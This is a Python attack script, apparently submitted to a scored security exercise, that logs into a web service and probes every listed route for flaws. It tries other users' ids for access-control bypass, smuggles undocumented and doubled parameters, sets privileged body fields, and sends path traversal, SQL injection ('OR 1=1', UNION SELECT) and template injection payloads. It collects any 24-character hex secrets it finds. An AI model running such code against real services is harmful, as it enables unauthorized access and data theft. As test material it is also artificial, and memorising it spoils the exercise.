"""Try generic things on a web service, by its list of routes: others' ids, hidden and doubled arguments, payloads.

This text is handed in as it is, with a call of `attack` below it; it meets the service when it is scored.
"""

import itertools
import json
import re
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote, urlencode

Call = Callable[..., tuple[int, dict[str, str], str]]
SECRET = re.compile(r"(?<![0-9a-f])[0-9a-f]{24}(?![0-9a-f])")
ODD: tuple[Any, ...] = ("", [], None, 0, True, {})
REQUESTS = 1900  # requests
TRAVERSALS = ("../{0}/{1}", "....//{0}/{1}", "%2e%2e/{0}/{1}", "..%2f{0}/{1}", "/{0}/{1}")
QUERIES = (
    "' OR 1=1 --",
    "x' OR '1'='1",
    "' UNION SELECT {1}, {2} FROM {0} --",
    "' UNION SELECT * FROM {0} --",
)


class Spent(Exception):
    """No requests are left, or none are needed any more."""


class Visitor:
    """An ordinary person's session, and all that was seen in it."""

    def __init__(self, client: Any, facts: dict[str, Any]) -> None:
        self.client = client
        self.call: Call = client.call
        self.routes: list[dict[str, Any]] = facts["routes"]
        self.seen: dict[str, None] = {}  # short texts in answers
        self.theirs: dict[str, None] = {}  # ids of what is the other's
        self.mine: list[str] = []
        self.token = ""
        self.used = 0

    def ask(
        self, route: dict[str, Any], values: dict[str, Any], extra: dict[str, dict[str, Any]] | None = None
    ) -> Any:
        """One request by the list of routes; what is in the answer is remembered."""
        self.used += 1
        if self.used > REQUESTS:
            raise Spent
        path, parts = (
            route["path"],
            {place: dict((extra or {}).get(place, {})) for place in ("query", "body", "header")},
        )
        for name, value in values.items():
            place = route["arguments"].get(name, "body")
            if place == "path":
                path = path.replace("{" + name + "}", quote(str(value), safe=""))
            else:
                parts[place]["X-" + name if place == "header" else name] = value
        headers = {**parts["header"], "Authorization": "Bearer " + self.token, "X-Session": self.token}
        cookies = {"session": self.token, **(extra or {}).get("cookie", {})}
        headers["Cookie"] = "; ".join(f"{name}={value}" for name, value in cookies.items())
        query = urlencode({**parts["query"], "session": self.token}, doseq=True)
        body = json.dumps(parts["body"]) if parts["body"] else ""
        status, _, text = self.call(
            route["verb"], f"{path}?{query}", body, {k: str(v) for k, v in headers.items()}
        )
        for found in SECRET.findall(text):
            self.client.hand_in(found)
        try:
            said = json.loads(text)
        except ValueError:
            said = {}
        if status < 400:
            self.remember(said)
        return said

    def remember(self, said: Any) -> None:
        """Keep the texts of an answer, and the ids of the other's things."""
        if isinstance(said, dict):
            if said.get("owner") == self.client.OTHER and "id" in said:
                self.theirs[str(said["id"])] = None
            for each in said.values():
                self.remember(each)
        elif isinstance(said, list):
            for each in said:
                self.remember(each)
        elif isinstance(said, str | int) and 3 <= len(str(said)) <= 30:
            self.seen[str(said)] = None

    def log_in(self) -> None:
        """Find the route that gives a session for a name and a password; join first where that takes an invitation."""
        own = {"name": self.client.NAME, "password": self.client.PASSWORD}
        for route in self.routes:
            if not route["session"] and "invite" in route["arguments"]:
                self.ask(route, {**own, "invite": getattr(self.client, "INVITE", "")})
        for route in self.routes:
            if not route["session"] and set(route["arguments"]) == {"name", "password"}:
                said = self.ask(route, own)
                if isinstance(said, dict) and said.get("token"):
                    self.token = said["token"]

    def keep(self, title: str = "mine") -> None:
        """Keep something of one's own."""
        for route in self.routes:
            if set(route["arguments"]) == {"title", "text"}:
                said = self.ask(route, {"title": title, "text": "words"})
                if isinstance(said, dict) and "id" in said:
                    self.mine.append(str(said["id"]))

    def look_around(self) -> None:
        """Read all that takes no argument, page by page where it has pages."""
        for route in self.routes:
            if route["verb"] == "GET" and not route["arguments"]:
                self.ask(route, {})
            if route["verb"] == "GET" and list(route["arguments"]) == ["after"]:
                for after in range(0, 30, 3):
                    self.ask(route, {"after": after})

    def usual(self, route: dict[str, Any]) -> dict[str, Any]:
        """Harmless values for the arguments of a route."""
        own = self.mine[0] if self.mine else "1"
        known = {"name": self.client.NAME, "to": self.client.NAME, "password": self.client.PASSWORD}
        known |= {"owner": self.client.NAME, "id": own}
        return {
            name: [*self.mine[:2]] if name == "ids" else known.get(name, "x") for name in route["arguments"]
        }

    def ids(self) -> list[str]:
        """Ids that may be the other's: seen beside the name, or numbers below one's own."""
        own = self.mine[0] if self.mine else ""
        last = int(own) if own.isdigit() and len(own) < 6 else 1
        return [*self.theirs, *map(str, range(max(1, last - 60), last))]

    def others(self) -> None:
        """Use every route that takes an id on the other's."""
        for route, own in itertools.product(self.routes, (False, True)):
            keys = [name for name in route["arguments"] if name in ("id", "ids", "with")]
            if not route["session"] or not keys or (own and len(keys) + ("ids" in keys) < 2):
                continue
            for each in self.ids():
                values = self.usual(route)
                values[keys[-1]] = ([self.mine[0], each] if own else [each]) if keys[-1] == "ids" else each
                self.ask(route, values)

    def read_again(self) -> None:
        """See whether anything is readable now that was not."""
        self.look_around()
        for route in self.routes:
            if route["verb"] == "GET" and list(route["arguments"]) == ["id"]:
                for each in (*self.ids()[:12], *self.mine[:2]):
                    self.ask(route, {"id": each})


def hidden(visitor: Visitor, words: list[str]) -> None:
    """Give every route the other's name as arguments that are not documented."""
    other = visitor.client.OTHER
    extra = {
        "query": dict.fromkeys(words, other),
        "cookie": dict.fromkeys(words, other),
        "header": {word if word.startswith("x-") else "X-" + word: other for word in words},
    }
    for route in visitor.routes:
        if route["session"]:
            visitor.ask(route, visitor.usual(route), extra)
            if route["verb"] != "GET":
                visitor.ask(route, visitor.usual(route), {**extra, "body": dict.fromkeys(words, other)})


def doubled(visitor: Visitor) -> None:
    """Give arguments twice, and the other's name wherever a text goes."""
    pair = [visitor.client.NAME, visitor.client.OTHER]
    for route in visitor.routes:
        for name, place in route["arguments"].items():
            ways = [visitor.client.OTHER, *([pair, pair[::-1]] if place == "query" else [])]
            for way in ways if route["session"] else []:
                visitor.ask(route, {**visitor.usual(route), name: way})


def promoted(visitor: Visitor, pairs: list[list[str]]) -> None:
    """Set fields that the source asks for, wherever a body is taken."""
    for route in visitor.routes:
        if route["session"] and route["verb"] != "GET":
            for name, value in pairs:
                visitor.ask(
                    route, visitor.usual(route) if route["arguments"] else {}, {"body": {name: value}}
                )


def fed(visitor: Visitor, words: list[str]) -> None:
    """Give back what was seen, and what the list of routes names, to every route that wants one word."""
    for route in visitor.routes:
        if route["session"] and len(route["arguments"]) == 1:
            (name,) = route["arguments"]
            tried = [*re.findall(r"\w+", route["does"]), *list(visitor.seen)[:25], *words[:10]]
            for word in tried if name not in ("id", "ids") else []:
                visitor.ask(route, {name: word})


def confused(visitor: Visitor) -> None:
    """Values of another type, where an id and something else is asked for."""
    for route in visitor.routes:
        names = [name for name, place in route["arguments"].items() if place == "body" and name != "id"]
        if "id" in route["arguments"] and len(names) == 1:
            for each, odd in itertools.product(visitor.ids()[:40], ODD):
                visitor.ask(route, {"id": each, names[0]: odd})


def payloads(facts: dict[str, Any], other: str) -> Iterator[str]:
    """Texts that mean something in a path, a query, a template."""
    for way, file in itertools.product(TRAVERSALS, facts["files"]):
        yield way.format(other, file)
    for table, columns in facts["tables"]:
        for way in QUERIES:
            yield way.format(table, *(columns[-2:] if len(columns) > 1 else columns * 2))
    for name in facts["formats"]:
        for one, two in itertools.product(facts["attributes"], repeat=2):
            yield f"{{{name}.{one}.{two}}}"


def injected(visitor: Visitor, facts: dict[str, Any]) -> None:
    """Every payload for every text that a route wants."""
    for route in visitor.routes:
        for name, place in route["arguments"].items():
            if route["session"] and place != "path" and name not in ("id", "ids", "with", "after"):
                for each in payloads(facts, visitor.client.OTHER):
                    visitor.ask(route, {**visitor.usual(route), name: each})


def attack(client: Any, facts: dict[str, Any], *, deep: bool) -> None:
    """Log in, look around, and try."""
    visitor = Visitor(client, facts)
    try:
        visitor.log_in()
        if not visitor.token:
            return
        visitor.keep()
        visitor.keep()
        visitor.look_around()
        if deep:
            for title in facts["titles"]:
                visitor.keep(title)
            fed(visitor, facts["texts"])
        visitor.others()
        visitor.read_again()
        if deep:
            hidden(visitor, facts["arguments"])
            doubled(visitor)
            promoted(visitor, facts["pairs"])
            visitor.read_again()
            confused(visitor)
            injected(visitor, facts)
    except Spent:
        pass
